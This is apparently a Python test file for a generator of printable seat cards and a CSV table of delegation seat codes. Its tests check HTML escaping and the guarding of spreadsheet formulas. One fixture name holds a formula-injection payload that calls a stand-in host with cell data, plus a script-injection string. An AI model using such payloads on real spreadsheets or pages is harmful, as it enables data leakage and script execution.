"""The sheet of seats: a card per seat, nothing fetched, nothing run; a table that no spreadsheet computes."""

import csv
import io
import re
from dataclasses import replace
from html.parser import HTMLParser

import pytest

from meeting.delegations import Category, Delegation, DelegationId
from meeting.seats import Function, new_seats
from report.sheet import COLUMNS, Card, Sheet, seats_csv, seats_html
from report.tables import guarded

FIJI = Delegation(DelegationId("fiji"), "Republic of Fiji", "Fiji", Category.MEMBER, "fiji", seats=2)
EVIL = Delegation(
    DelegationId("evil"),
    '=HYPERLINK("http://x.example?"&A1) <script>alert(1)</script> & "co"',
    "@evil",
    Category.OBSERVER_ORGANISATION,
    "evil",
    seats=1,
)
CODES = ("K7QM-2R9T-XW4D", "0000-1111-2222", "ZZZZ-9999-AAAA")
FUNCTIONS = {Function.HEAD: "Head of delegation", Function.ALTERNATE: "Alternate"}
CARDS = [
    Card(one, seat, code, "A <category>", FUNCTIONS[seat.function], f"seat {seat.number} of {one.seats}")
    for (one, seat), code in zip(
        [(one, seat) for one in (FIJI, EVIL) for seat in new_seats(one, ())], CODES, strict=True
    )
]
SHEET = Sheet(
    "A", "codes", "Print & cut.", ("Open **discord.gg/a<b**, now.", "Press **Take** and **enter**.")
)


class Page(HTMLParser):
    """Tags with their attributes, and the text in order."""

    def __init__(self, data: bytes) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.words: list[str] = []
        self.feed(data.decode())

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.words.append(data)


def test_each_seat_has_a_card_with_all_that_is_needed_to_take_it() -> None:
    data = seats_html(replace(SHEET, title="A small <roundtable>", marking="Rehearsal"), CARDS)
    page = Page(data)
    assert [tag for tag, _ in page.tags].count("section") == 3
    text = " ".join(" ".join(page.words).split())
    assert text.count("A small <roundtable>") == 5, "the head, the title, and each card"
    assert text.count("Rehearsal") == 4
    assert "Republic of Fiji Head of delegation · seat 1 of 2 K7QM 2R9T XW4D" in text
    assert "Alternate · seat 2 of 2 0000 1111 2222" in text
    assert "Print & cut." in text and '<script>alert(1)</script> & "co"' in text
    assert data.count(b"<li>Open <b>discord.gg/a&lt;b</b>, now.</li>") == 3
    assert data.count(b"<li>Press <b>Take</b> and <b>enter</b>.</li>") == 3
    assert b"Rehearsal" not in seats_html(SHEET, CARDS)


def test_nothing_is_fetched_and_nothing_runs() -> None:
    data = seats_html(SHEET, CARDS)
    tags = Page(data).tags
    assert {tag for tag, _ in tags} == {
        "html", "head", "meta", "title", "style", "body", "header", "h1", "h2", "p", "main", "section", "b",
        "span", "ol", "li",
    }  # fmt: skip
    names = {name for _, attributes in tags for name in attributes}
    assert not names & {"src", "href", "onload", "onclick", "action"}
    assert b"url(" not in data and b"@import" not in data
    assert b"break-inside: avoid" in data and b"A4" in data


def test_the_table_is_read_back_with_a_mark_for_excel() -> None:
    link = "https://discord.gg/abc"
    data = seats_csv(replace(SHEET, link=link), CARDS)
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert tuple(rows[0]) == COLUMNS and [row[6] for row in rows[1:]] == list(CODES)
    assert rows[1] == [
        "fiji", "Republic of Fiji", "Fiji", "A <category>", "1", "Head of delegation", CODES[0], link,
    ]  # fmt: skip
    assert rows[3][1] == "'" + EVIL.name and rows[3][2] == "'@evil"
    marked = seats_csv(replace(SHEET, marking="=Test"), CARDS).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(marked, newline="")))
    assert [row[8:] for row in rows] == [["marking"], *[["'=Test"]] * 3]
    assert [row[7] for row in rows] == ["link", "", "", ""]


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r"])
def test_no_cell_is_computed(sign: str) -> None:
    assert guarded(f"{sign}1+1") == f"'{sign}1+1"
    assert guarded(f"1{sign}1") == f"1{sign}1", "control: inside a cell it is text"


def test_longest_names_are_set_smaller() -> None:
    def size(name: str) -> str | None:
        one = Delegation(DelegationId("x"), name, "x", Category.MEMBER, "x", seats=1)
        card = Card(one, new_seats(one, ())[0], CODES[0], "", "", "")
        html = seats_html(SHEET, [card]).decode()
        found = re.search(r'<h2(?: class="(\w+)")?>', html)
        assert found is not None
        return found[1]

    assert [size("W" * n) for n in (40, 41, 71)] == [None, "long", "longest"]
